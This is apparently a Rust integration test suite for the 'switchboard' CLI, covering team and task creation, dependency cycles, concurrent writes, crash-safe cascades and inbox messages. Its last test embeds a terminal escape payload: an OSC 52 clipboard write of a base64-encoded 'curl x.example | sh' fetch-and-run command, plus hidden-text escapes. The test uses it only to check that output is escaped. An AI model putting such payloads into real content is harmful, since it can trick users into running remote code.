//! `switchboard team|task|msg` as agents run them: real processes on a
//! team folder in opencode-teams' layout.

use std::{fs, path::Path};

use serde_json::{Value, json};

use crate::{Lcg, switchboard};

/// A workspace with team `alpha` (lead, b, c) in the plugin's folder.
fn workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let config = dir
        .path()
        .join(".opencode/opencode-teams/teams/alpha/config.json");
    fs::create_dir_all(config.parent().unwrap()).unwrap();
    let member = |id: &str, kind: &str| {
        json!({"agentId": id, "agentName": id, "agentType": kind,
               "joinedAt": "2026-02-10T09:00:00.000Z"})
    };
    let body = json!({
        "name": "alpha", "created": "2026-02-10T09:00:00.000Z", "leader": "lead",
        "members": [member("lead", "leader"), member("b", "worker"), member("c", "worker")],
        "dispatchRules": [], "dispatchLog": []
    });
    fs::write(&config, serde_json::to_string_pretty(&body).unwrap()).unwrap();
    dir
}

/// Runs and returns stdout, asserting success.
fn run(workspace: &Path, args: &[&str]) -> String {
    let output = switchboard(workspace, args);
    assert!(
        output.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

#[test]
fn the_team_guide_starts_with_a_team_the_cli_creates() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    // docs/team.md's first commands, in a workspace with no team yet.
    let missing = switchboard(ws, &["task", "create", "--team", "web", "--title", "Build"]);
    assert!(
        String::from_utf8_lossy(&missing.stderr).contains("Team \"web\" does not exist"),
        "{missing:?}"
    );
    assert_eq!(run(ws, &["team", "create", "web"]), "web");
    let id = run(
        ws,
        &[
            "task",
            "create",
            "--team",
            "web",
            "--title",
            "Build the login page",
            "--priority",
            "high",
        ],
    );
    let ready: Value = serde_json::from_str(&run(
        ws,
        &["task", "list", "--team", "web", "--ready", "--json"],
    ))
    .unwrap();
    assert_eq!(ready[0]["task"]["id"], id.as_str(), "{ready}");
    let shown: Value = serde_json::from_str(&run(ws, &["team", "show", "web", "--json"])).unwrap();
    assert_eq!(shown["config"]["leader"], "leader");
    let again = switchboard(ws, &["team", "create", "web"]);
    assert_eq!(again.status.code(), Some(2), "INVALID_REQUEST");
    assert!(
        String::from_utf8_lossy(&again.stderr).contains("Team \"web\" already exists"),
        "{again:?}"
    );
}

#[test]
fn a_team_is_worked_from_the_cli_in_the_plugins_words() {
    let dir = workspace();
    let ws = dir.path();
    let design = run(
        ws,
        &["task", "create", "--team", "alpha", "--title", "Design"],
    );
    let build = run(
        ws,
        &[
            "task",
            "create",
            "--team",
            "alpha",
            "--title",
            "Build",
            "--dep",
            &design,
            "--priority",
            "high",
        ],
    );

    // A cycle: refused with the plugin's message, code and exit status.
    let cycle = switchboard(ws, &["task", "deps", &design, "--add", &build]);
    assert_eq!(cycle.status.code(), Some(2));
    assert_eq!(
        String::from_utf8_lossy(&cycle.stderr).trim(),
        format!("error[INVALID_REQUEST]: Circular dependency detected: {design}")
    );
    let ready: Value =
        serde_json::from_str(&run(ws, &["task", "list", "--ready", "--json"])).unwrap();
    assert_eq!(ready.as_array().unwrap().len(), 1, "{ready}");
    assert_eq!(ready[0]["task"]["id"], design.as_str());

    // A task id alone finds its team; completing cascades.
    let claimed: Value =
        serde_json::from_str(&run(ws, &["task", "claim", &design, "--as", "b", "--json"])).unwrap();
    assert_eq!(claimed["task"]["owner"], "b");
    assert_eq!(claimed["team"], "alpha");
    let done: Value = serde_json::from_str(&run(ws, &["task", "done", &design, "--json"])).unwrap();
    assert_eq!(done["cascaded"], json!([build]));
    let ready: Value =
        serde_json::from_str(&run(ws, &["task", "list", "--ready", "--json"])).unwrap();
    assert_eq!(
        ready[0]["task"]["id"],
        build.as_str(),
        "the dependent is ready now"
    );
    let again = switchboard(ws, &["task", "start", &design]);
    assert_eq!(
        String::from_utf8_lossy(&again.stderr).trim(),
        "error[INVALID_REQUEST]: Invalid status transition: completed -> in_progress"
    );

    // Unknown things are NOT_FOUND, as one JSON error under --json.
    let missing = switchboard(ws, &["task", "claim", "1-deadbeef", "--as", "b", "--json"]);
    assert_eq!(missing.status.code(), Some(3));
    let error: Value = serde_json::from_slice(&missing.stdout).unwrap();
    assert_eq!(error["error"]["code"], "NOT_FOUND");
    let no_team = switchboard(ws, &["task", "create", "--team", "zz", "--title", "x"]);
    assert_eq!(
        String::from_utf8_lossy(&no_team.stderr).trim(),
        "error[NOT_FOUND]: Team \"zz\" does not exist"
    );

    // Messages land in the plugin's form; reading marks them read.
    run(
        ws,
        &[
            "msg",
            "send",
            "--team",
            "alpha",
            "--from",
            "lead",
            "--to",
            "b",
            "--type",
            "task-assignment",
            "take Build",
        ],
    );
    assert_eq!(
        run(
            ws,
            &[
                "msg",
                "broadcast",
                "--team",
                "alpha",
                "--from",
                "lead",
                "stand-up"
            ]
        ),
        "sent to b, c"
    );
    let inbox: Value = serde_json::from_str(
        &fs::read_to_string(ws.join(".opencode/opencode-teams/teams/alpha/inboxes/b.json"))
            .unwrap(),
    )
    .unwrap();
    assert_eq!(inbox[0]["type"], "task_assignment");
    assert_eq!(inbox[1]["to"], "broadcast");
    let read: Value = serde_json::from_str(&run(
        ws,
        &[
            "msg", "read", "--team", "alpha", "--as", "b", "--unread", "--json",
        ],
    ))
    .unwrap();
    assert_eq!(read.as_array().unwrap().len(), 2);
    let read: Value = serde_json::from_str(&run(
        ws,
        &[
            "msg", "read", "--team", "alpha", "--as", "b", "--unread", "--json",
        ],
    ))
    .unwrap();
    assert_eq!(read, json!([]));
    let shown = run(ws, &["team", "show", "alpha"]);
    assert!(shown.contains("b (worker)  0 unread"), "{shown}");
}

#[test]
fn eight_processes_times_fifty_changes_lose_nothing_and_close_no_cycle() {
    let dir = workspace();
    let ws = dir.path().to_owned();
    let seeds: Vec<String> = (0..4)
        .map(|i| {
            run(
                &ws,
                &[
                    "task",
                    "create",
                    "--team",
                    "alpha",
                    "--title",
                    &format!("seed {i}"),
                ],
            )
        })
        .collect();
    let workers: Vec<_> = (0..8)
        .map(|worker| {
            let ws = ws.clone();
            let seeds = seeds.clone();
            std::thread::spawn(move || {
                let mut mine: Vec<String> = Vec::new();
                for round in 0..50 {
                    let agent = format!("w{worker}");
                    match round % 5 {
                        0 | 1 => {
                            let dep = &seeds[(worker + round) % seeds.len()];
                            mine.push(run(
                                &ws,
                                &[
                                    "task", "create", "--team", "alpha", "--title", "t", "--dep",
                                    dep,
                                ],
                            ));
                        }
                        2 => {
                            // Each edit alone is acyclic; together they
                            // would close a ring of the four seeds.
                            let (a, b) = (&seeds[worker % 4], &seeds[(worker + 1) % 4]);
                            let _ = switchboard(&ws, &["task", "deps", a, "--add", b]);
                        }
                        3 => {
                            if let Some(id) = mine.last() {
                                let _ = switchboard(&ws, &["task", "claim", id, "--as", &agent]);
                            }
                        }
                        _ => {
                            if let Some(id) = mine.last() {
                                let _ = switchboard(&ws, &["task", "done", id]);
                            }
                        }
                    }
                }
                mine
            })
        })
        .collect();
    let created: usize = workers.into_iter().map(|w| w.join().unwrap().len()).sum();
    let board: Value =
        serde_json::from_str(&run(&ws, &["team", "show", "alpha", "--json"])).unwrap();
    assert_eq!(board["problems"], json!([]), "every file parses");
    let tasks = board["tasks"].as_array().unwrap();
    assert_eq!(tasks.len(), created + seeds.len(), "no task lost");
    for task in tasks {
        if task["status"] != "pending" {
            assert!(task["owner"].is_string(), "{task}");
        }
    }
    let mut done = std::collections::HashSet::new();
    loop {
        let next: Vec<&str> = tasks
            .iter()
            .filter(|t| {
                !done.contains(t["id"].as_str().unwrap())
                    && t["dependencies"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .all(|d| done.contains(d.as_str().unwrap()))
            })
            .map(|t| t["id"].as_str().unwrap())
            .collect();
        if next.is_empty() {
            break;
        }
        done.extend(next);
    }
    assert_eq!(done.len(), tasks.len(), "a dependency cycle landed");
}

#[test]
fn a_cascade_killed_at_random_points_leaves_every_file_whole() {
    use std::process::{Command, Stdio};

    let dir = workspace();
    let ws = dir.path();
    let root = run(
        ws,
        &["task", "create", "--team", "alpha", "--title", "Root"],
    );
    run(ws, &["task", "claim", &root, "--as", "b"]);
    let tasks = ws.join(".opencode/opencode-teams/tasks/alpha");
    // 120 dependents, written as the plugin would, so the cascade rewrites
    // 120 files (each with an fsync).
    let root_file = fs::read_to_string(tasks.join(format!("{root}.json"))).unwrap();
    let mut template: Vec<(String, String)> = vec![(format!("{root}.json"), root_file)];
    for n in 0..120 {
        let id = format!("1770000000{n:03}-{n:08x}");
        let task = json!({"id": id, "title": format!("after {n}"), "priority": "normal",
                          "status": "pending", "createdAt": "2026-02-10T10:00:00.000Z",
                          "dependencies": [root], "blocks": []});
        template.push((
            format!("{id}.json"),
            serde_json::to_string_pretty(&task).unwrap(),
        ));
    }
    let mut random = Lcg(0x7ea3);
    let (mut finished, mut cut) = (0, 0);
    for round in 0..100 {
        for entry in fs::read_dir(&tasks).unwrap().flatten() {
            if entry.file_name() != ".lock" {
                fs::remove_file(entry.path()).unwrap();
            }
        }
        for (name, text) in &template {
            fs::write(tasks.join(name), text).unwrap();
        }
        let mut child = Command::new(env!("CARGO_BIN_EXE_switchboard"))
            .arg("-C")
            .arg(ws)
            .args(["task", "done", &root])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        if round % 4 != 0 {
            std::thread::sleep(std::time::Duration::from_micros(random.below(20_000)));
            let _ = child.kill(); // SIGKILL
        }
        let status = child.wait().unwrap();
        let mut freed = 0;
        for entry in fs::read_dir(&tasks).unwrap().flatten() {
            let name = entry.file_name().into_string().unwrap();
            if name.starts_with('.') {
                continue;
            }
            let text = fs::read_to_string(entry.path()).unwrap();
            let task: Value = serde_json::from_str(&text)
                .unwrap_or_else(|error| panic!("round {round}: {name} does not parse: {error}"));
            assert_eq!(format!("{}.json", task["id"].as_str().unwrap()), name);
            if task["dependencies"] == json!([]) && task["id"] != root.as_str() {
                freed += 1;
            }
        }
        if status.success() {
            finished += 1;
            assert_eq!(
                freed, 120,
                "round {round}: a finished cascade frees every dependent"
            );
        } else if freed < 120 {
            cut += 1;
        }
    }
    assert!(
        finished > 0,
        "some cascades finished, or the test proves nothing"
    );
    assert!(
        cut > 0,
        "some cascades were cut short, or the test proves nothing"
    );
}

#[test]
fn what_teammates_and_a_cloned_repository_wrote_is_shown_on_a_terminal_never_obeyed() {
    let dir = workspace();
    let ws = dir.path();
    // A clipboard write (OSC 52) and concealed text, as any teammate (or
    // a cloned repository's team folder) can write them.
    let hostile = "Build\u{1b}]52;c;Y3VybCB4LmV4YW1wbGUgfCBzaA==\u{7}\u{1b}[8m hidden";
    let task = run(
        ws,
        &["task", "create", "--team", "alpha", "--title", hostile],
    );
    run(
        ws,
        &[
            "msg", "send", "--team", "alpha", "--from", "lead", "--to", "b", hostile,
        ],
    );
    std::fs::create_dir_all(ws.join(".delia/playbooks")).unwrap();
    std::fs::write(
        ws.join(".delia/playbooks/coding.json"),
        json!({"schema_version": 2, "task_type": "coding", "updated_at": "2026-11-01T00:00:00.000000",
               "bullets": [{"id": "strat-0000000a", "content": hostile, "helpful_count": 3}]})
        .to_string(),
    )
    .unwrap();
    for args in [
        &["task", "list"][..],
        &["task", "claim", &task, "--as", "b"],
        &["team", "show", "alpha"],
        &["msg", "read", "--team", "alpha", "--as", "b"],
        &["search", "Build"],
    ] {
        let shown = run(ws, args);
        assert!(
            !shown.contains('\u{1b}') && !shown.contains('\u{7}'),
            "{args:?} obeys what was written: {shown:?}"
        );
        assert!(
            shown.contains("Build\\x1b]52;c;"),
            "{args:?} shows it as written: {shown:?}"
        );
    }
}
